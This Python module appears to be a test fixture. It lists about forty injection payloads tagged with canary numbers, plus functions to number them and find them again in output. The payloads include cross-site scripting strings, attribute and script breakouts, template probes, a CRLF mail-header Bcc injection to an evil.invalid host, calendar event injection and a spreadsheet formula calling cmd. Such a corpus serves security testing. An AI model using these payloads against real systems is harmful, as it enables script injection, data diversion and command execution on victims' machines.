"""Texts of somebody who wants more than to say something, each with a number by which it is found again.

`{n}` stands for the number: a word that is nowhere else, so that whatever it turns up in came from that text.
"""

import re
from collections.abc import Mapping

PAYLOADS: Mapping[str, str] = {
    # markup
    "script": "<script>hit('{n}')</script>",
    "end of a script": "</script><script>hit('{n}')</script>",
    "picture": "<img src={n} onerror=hit('{n}')>",
    "frame": "<iframe srcdoc=\"<script>hit('{n}')</script>\">",
    "base": "<base href=//{n}.invalid/>",
    "refresh": "<meta http-equiv=refresh content=0;url=//{n}.invalid>",
    "form": "</p></div><form action=//{n}.invalid><input name={n}>",
    "sheet": "<link rel=stylesheet href=//{n}.invalid>",
    "end of a field": "</title></textarea></select><b id={n}>",
    "comment": "--><!--><script>hit('{n}')</script>",
    "element that opens": "<details open ontoggle=hit('{n}')>",
    "written twice": "&lt;script&gt;hit('{n}')&lt;/script&gt;",
    "one in the other": "<scr<script>ipt>hit('{n}')</scr</script>ipt>",
    "data of XML": "<![CDATA[<script>hit('{n}')</script>]]>",
    "element of its own": "<template shadowrootmode=open><x-{n} {n}>",
    # out of an attribute
    "end of an attribute": "\"><img src={n} onerror=hit('{n}')>",
    "further attribute": '" onmouseover="hit(\'{n}\')" {n}="',
    "with single quotes": "' onfocus='hit(1)' autofocus {n}='",
    "without quotes": "x onclick=hit('{n}') {n}",
    # out of a text of a program
    "end of a string": "';hit('{n}');//",
    "end of an object": "\"}};hit('{n}');//",
    "in a template string": "`${{hit('{n}')}}",
    "escapes of JSON": "\\u003cimg src={n} onerror=hit('{n}')\\u003e",
    # other languages within a page
    "drawing": "<svg/onload=hit('{n}')>",
    "link in a drawing": "<svg><a xlink:href=\"javascript:hit('{n}')\">x</a>",
    "formula": "<math><mtext><style><img src={n} onerror=hit('{n}')>",
    "end of a style": "</style><script>hit('{n}')</script>",
    "import": "@import url(//{n}.invalid);",
    "picture of a style": ";background:url(//{n}.invalid)}}*{{color:red",
    "template": "{{{{ 7|add:42 }}}}{n}{{% debug %}}",
    "format": "%(name)s {{0}} %s {n}",
    # signs
    "turned around": "\u202e{n}<b {n}>\u2066",
    "lines of scripts": "\u2028<b {n}>\u2029",
    "wide brackets": "\uff1cscript\uff1ehit('{n}')\uff1c/script\uff1e",
    # addresses
    "script address": "javascript:hit('{n}')",
    "data address": "data:text/html,<script>hit('{n}')</script>",
    # lines of mails and calendars, cells of tables
    "header": "{n}\r\nBcc: {n}@evil.invalid",
    "end of an event": "{n}\nEND:VEVENT\nBEGIN:VEVENT\nATTACH:{n}",
    "parameter": '{n};CN="x":mailto:{n}@evil.invalid\\nX-{n}:1',
    "cell": "=HYPERLINK(\"//{n}.invalid\")+cmd|'/C {n}'!A0",
}
"""By what each tries."""
LINES = frozenset({"header", "end of an event"})
"""Those with line breaks, which a text of one line does not hold."""
_NUMBER = re.compile(r"zq\d{4}x")


def numbered(name: str, number: int) -> str:
    """Return the payload `name` with a number of its own."""
    return PAYLOADS[name].format(n=f"zq{number:04d}x")


def numbers_in(text: str) -> set[int]:
    """Return the numbers of all payloads of which there is something in `text`, in whatever letter case."""
    return {int(found[2:6]) for found in _NUMBER.findall(text.lower())}
